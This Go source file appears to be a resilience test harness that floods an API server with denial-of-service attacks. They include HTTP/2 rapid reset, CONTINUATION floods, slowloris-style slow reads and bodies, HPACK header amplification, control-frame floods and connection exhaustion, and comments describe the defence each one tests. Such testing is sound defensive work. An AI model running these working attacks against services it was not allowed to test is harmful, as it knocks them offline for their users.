package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// noWindow lets a server send the headers of responses, and no byte of their bodies.
var noWindow = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}

// stalledReviews sends reviews whose responses are not read, and whose bodies seem to need much memory: a long name,
// and thousands of newlines. It renews rejected and ended requests. The defence: memory is held during a computation,
// never while a client takes its response, and no caller can hold so much of it that nothing is left for others.
type stalledReviews struct{ large bool }

func (a stalledReviews) Name() string {
	if a.large {
		return "stalled-reviews-large"
	}
	return "stalled-reviews"
}

func (a stalledReviews) Run(ctx context.Context, t *target, r *report) error {
	body := append(accessReview(strings.Repeat("n", 9_000)), repeat("\n", 18_000)...)
	sessions, each := 2, 67
	if a.large {
		body = append(body, repeat("\n", 700_000)...)
		sessions, each = 2, 56
	}
	return spread(sessions, func(int) error {
		return renewing(ctx, t, t.weak, func(s *session) error {
			return spread(each, func(int) error {
				for ctx.Err() == nil {
					one, err := s.open(t.weak, http.MethodPost, accessReviews, false, header{"content-type", "application/json"})
					if err == nil {
						err = s.body(one, body)
					}
					r.count(1, len(body))
					if err != nil {
						r.answer(0)
						return err
					}
					select {
					case code := <-one.code:
						if r.answer(code); code == http.StatusCreated {
							select {
							case <-ctx.Done():
							case <-one.ended:
							}
							continue
						}
						_ = s.reset(one) // the next one sees the connection's end
						pause(ctx, 20*time.Millisecond)
					case <-one.ended:
						r.answer(0)
						pause(ctx, 20*time.Millisecond)
					case <-ctx.Done():
					}
				}
				return nil
			})
		}, noWindow)
	})
}

// renewing runs an attack in a session, and in a new one when the server has ended it.
func renewing(ctx context.Context, t *target, c credential, run func(*session) error, settings ...http2.Setting) error {
	for ctx.Err() == nil {
		s, err := t.session(ctx, c, settings...)
		if err != nil {
			if ctx.Err() != nil {
				return nil
			}
			pause(ctx, 50*time.Millisecond) // it refuses connections for now
			continue
		}
		_ = run(s) // its error was counted
		s.close()
	}
	return nil
}

// slowReads requests lists of many megabytes and objects over HTTP/1.1, and reads one byte of the responses each
// second. The defence: unsent data is bounded, and a client that reads nothing is cut off.
type slowReads struct{}

func (slowReads) Name() string { return "slow-reads" }

func (slowReads) Run(ctx context.Context, t *target, r *report) error {
	return spread(100, func(worker int) error {
		for ctx.Err() == nil {
			conn, err := t.dial(ctx, credential{}, "http/1.1")
			if err != nil {
				r.answer(0)
				pause(ctx, 50*time.Millisecond)
				continue
			}
			path := t.kind.path(tenantNamespace, "")
			if worker%4 == 0 {
				path = t.kind.path(tenantNamespace, "large-1")
			}
			_, err = fmt.Fprintf(
				conn,
				"GET %s HTTP/1.1\r\nHost: %s\r\nAccept: application/json\r\nAuthorization: Bearer %s\r\n\r\n",
				path,
				t.url.Host,
				t.tenant.token,
			)
			r.count(1, 0)
			reader := bufio.NewReaderSize(conn, 16)
			line, readErr := reader.ReadString('\n')
			if err != nil || readErr != nil {
				r.answer(0)
				conn.Close()
				continue
			}
			r.answer(statusIn(line))
			for err == nil && pause(ctx, time.Second) {
				_, err = reader.ReadByte()
			}
			conn.Close()
		}
		return nil
	})
}

// statusIn returns the code of a status line.
func statusIn(line string) int {
	var version string
	var code int
	if _, err := fmt.Sscan(line, &version, &code); err != nil {
		return 0
	}
	return code
}

// slowStreams requests lists and objects over HTTP/2 and opens the window by a byte each second. The defence is that
// of slowReads.
type slowStreams struct{}

func (slowStreams) Name() string { return "slow-streams" }

func (slowStreams) Run(ctx context.Context, t *target, r *report) error {
	return spread(2, func(int) error {
		return renewing(ctx, t, t.tenant, func(s *session) error {
			return spread(100, func(worker int) error {
				path := t.kind.path(tenantNamespace, "")
				if worker%4 == 0 {
					path = t.kind.path(tenantNamespace, "large-1")
				}
				for ctx.Err() == nil {
					one, err := s.open(t.tenant, http.MethodGet, path, true)
					r.count(1, 0)
					if err != nil {
						r.answer(0)
						return err
					}
					one.counted(ctx, r)
					for open := true; open && pause(ctx, time.Second); {
						select {
						case <-one.ended:
							open = false
						default:
							if err := s.send(func() error { return s.framer.WriteWindowUpdate(one.id, 1) }); err != nil {
								return err
							}
						}
					}
				}
				return nil
			})
		}, noWindow)
	})
}

// slowBodies sends bodies of a megabyte over HTTP/1.1, a byte each second. The defence: a body has a deadline, and no
// memory is held for missing bytes.
type slowBodies struct{}

func (slowBodies) Name() string { return "slow-bodies" }

func (slowBodies) Run(ctx context.Context, t *target, r *report) error {
	return spread(200, func(int) error {
		for ctx.Err() == nil {
			conn, err := t.dial(ctx, credential{}, "http/1.1")
			if err != nil {
				r.answer(0)
				pause(ctx, 50*time.Millisecond)
				continue
			}
			_, err = fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: "+
				"1000000\r\nAuthorization: Bearer %s\r\n\r\n{",
				accessReviews, t.url.Host, t.weak.token)
			r.count(1, 0)
			for err == nil && pause(ctx, time.Second) {
				_, err = io.WriteString(conn, " ")
			}
			if err != nil {
				r.answer(0)
			}
			conn.Close()
		}
		return nil
	})
}

// slowFrames is slowBodies over HTTP/2, with 100 streams in a connection and no declared length.
type slowFrames struct{}

func (slowFrames) Name() string { return "slow-frames" }

func (slowFrames) Run(ctx context.Context, t *target, r *report) error {
	return spread(2, func(int) error {
		return renewing(ctx, t, t.weak, func(s *session) error {
			return spread(100, func(int) error {
				for ctx.Err() == nil {
					one, err := s.open(t.weak, http.MethodPost, accessReviews, false, header{"content-type", "application/json"})
					r.count(1, 0)
					if err != nil {
						r.answer(0)
						return err
					}
					for open := true; open && pause(ctx, time.Second); {
						select {
						case code := <-one.code:
							r.answer(code)
							open = false
						case <-one.ended:
							open = false
						default:
							if err := s.send(func() error { return s.framer.WriteData(one.id, false, []byte(" ")) }); err != nil {
								return err
							}
						}
					}
				}
				return nil
			})
		})
	})
}

// rapidReset begins requests and cancels them at once. The defence: the number of requests of a connection is
// bounded, canceled ones included.
type rapidReset struct{}

func (rapidReset) Name() string { return "rapid-reset" }

func (rapidReset) Run(ctx context.Context, t *target, r *report) error {
	return spread(2, func(int) error {
		return renewing(ctx, t, t.tenant, func(s *session) error {
			for ctx.Err() == nil {
				one, err := s.open(t.tenant, http.MethodGet, t.kind.path(tenantNamespace, ""), true)
				if err == nil {
					err = s.reset(one)
				}
				if err != nil {
					r.answer(0)
					return err
				}
				r.count(1, 0)
			}
			return nil
		})
	})
}

// continuationFlood sends headers that never end. The defence: headers are bounded, and the connection ends beyond.
type continuationFlood struct{}

func (continuationFlood) Name() string { return "continuation-flood" }

func (continuationFlood) Run(ctx context.Context, t *target, r *report) error {
	return spread(2, func(int) error {
		return renewing(ctx, t, credential{}, func(s *session) error {
			one := uint32(1)
			first, more := []byte(nil), []byte(nil)
			s.write.Lock()
			first = bytes.Clone(s.block(t.weak, http.MethodGet, "/version"))
			more = bytes.Clone(s.block(t.weak, http.MethodGet, "/version", header{"x-filler", strings.Repeat("f", 16_000)}))
			s.write.Unlock()
			err := s.send(func() error {
				return s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: one, BlockFragment: first, EndStream: true})
			})
			for err == nil && ctx.Err() == nil {
				err = s.send(func() error { return s.framer.WriteContinuation(one, false, more[max(0, len(more)-16_000):]) })
				r.count(1, 16_000)
			}
			r.answer(0)
			return err
		})
	})
}

// controlFrames sends PING, SETTINGS and empty DATA, each of which the server has to answer or handle, and reads no
// responses. The defence: waiting responses are bounded, and the connection ends beyond.
type controlFrames struct{}

func (controlFrames) Name() string { return "control-frames" }

func (controlFrames) Run(ctx context.Context, t *target, r *report) error {
	return spread(2, func(worker int) error {
		return renewing(ctx, t, credential{}, func(s *session) error {
			one, err := s.open(t.weak, http.MethodPost, accessReviews, false, header{"content-type", "application/json"})
			for err == nil && ctx.Err() == nil {
				err = s.send(func() error {
					for range 100 {
						var err error
						switch worker {
						case 0:
							err = s.framer.WritePing(false, [8]byte{1})
						default:
							if err = s.framer.WriteSettings(noWindow); err == nil {
								err = s.framer.WriteData(one.id, false, nil)
							}
						}
						if err != nil {
							return err
						}
					}
					return nil
				})
				r.count(100, 0)
			}
			r.answer(0)
			return err
		})
	})
}

// largeHeaders sends headers of a megabyte, over HTTP/2 and HTTP/1.1. The defence: they are rejected before they are
// stored.
type largeHeaders struct{}

func (largeHeaders) Name() string { return "large-headers" }

func (largeHeaders) Run(ctx context.Context, t *target, r *report) error {
	return headersOfBothVersions(ctx, t, r, http.Header{"X-Large": {strings.Repeat("l", 1<<20-100)}})
}

// manyHeaders sends 20,000 headers. The defence is that of largeHeaders.
type manyHeaders struct{}

func (manyHeaders) Name() string { return "many-headers" }

func (manyHeaders) Run(ctx context.Context, t *target, r *report) error {
	headers := http.Header{}
	for i := range 20_000 {
		headers[fmt.Sprintf("X-%d", i)] = []string{"v"}
	}
	return headersOfBothVersions(ctx, t, r, headers)
}

func headersOfBothVersions(ctx context.Context, t *target, r *report, headers http.Header) error {
	one := shot{as: t.weak, method: http.MethodGet, path: "/version", header: headers}
	return spread(2, func(worker int) error {
		if worker == 0 {
			return fire(ctx, t, r, 2, one)
		}
		return spread(2, func(int) error {
			var lines bytes.Buffer
			for name, values := range headers {
				fmt.Fprintf(&lines, "%s: %s\r\n", name, values[0])
			}
			for ctx.Err() == nil {
				conn, err := t.dial(ctx, credential{}, "http/1.1")
				if err != nil {
					pause(ctx, 50*time.Millisecond)
					continue
				}
				// A server may answer before it has read all.
				_, _ = fmt.Fprintf(conn, "GET /version HTTP/1.1\r\nHost: %s\r\n%s\r\n", t.url.Host, &lines)
				r.count(1, lines.Len())
				line, _ := bufio.NewReader(conn).ReadString('\n')
				conn.Close()
				if ctx.Err() == nil {
					r.answer(statusIn(line))
				}
			}
			return nil
		})
	})
}

// packedHeaders refers 16,000 times to a 4 kB entry of the compression table, by a byte each: 64 MB of headers in 16
// kB. The defence: headers are bounded by their unpacked size.
type packedHeaders struct{}

func (packedHeaders) Name() string { return "packed-headers" }

func (packedHeaders) Run(ctx context.Context, t *target, r *report) error {
	return spread(4, func(int) error {
		return renewing(ctx, t, credential{}, func(s *session) error {
			for ctx.Err() == nil {
				var one *stream
				err := s.send(func() error {
					s.mu.Lock()
					one = &stream{id: s.next, code: make(chan int, 1), ended: make(chan struct{})}
					s.next += 2
					err := s.err
					s.streams[one.id] = one
					s.mu.Unlock()
					if err != nil {
						return err
					}
					block := bytes.Clone(s.block(t.weak, http.MethodGet, "/version", header{"x-packed", strings.Repeat("p", 3_900)}))
					block = append(block, repeat("\xbe", 16_300-len(block))...) // the entry that was added last
					return s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: one.id, BlockFragment: block, EndHeaders: true, EndStream: true})
				})
				r.count(1, 16_300)
				if err != nil {
					r.answer(0)
					return err
				}
				one.counted(ctx, r)
			}
			return nil
		})
	})
}

// idleConnections opens 1,000 connections that send nothing, or the beginning of HTTP/2. The defence: connections
// without a request are bounded and ended, and cost little.
type idleConnections struct{}

func (idleConnections) Name() string { return "idle-connections" }

func (idleConnections) Run(ctx context.Context, t *target, r *report) error {
	return spread(20, func(worker int) error {
		for range 50 {
			if ctx.Err() != nil {
				return nil
			}
			r.count(1, 0)
			if worker%2 == 0 {
				if _, err := t.dial(ctx, credential{}, "http/1.1"); err != nil {
					r.answer(0)
				}
			} else if _, err := t.session(ctx, credential{}); err != nil {
				r.answer(0)
			}
		}
		<-ctx.Done()
		return nil
	})
}
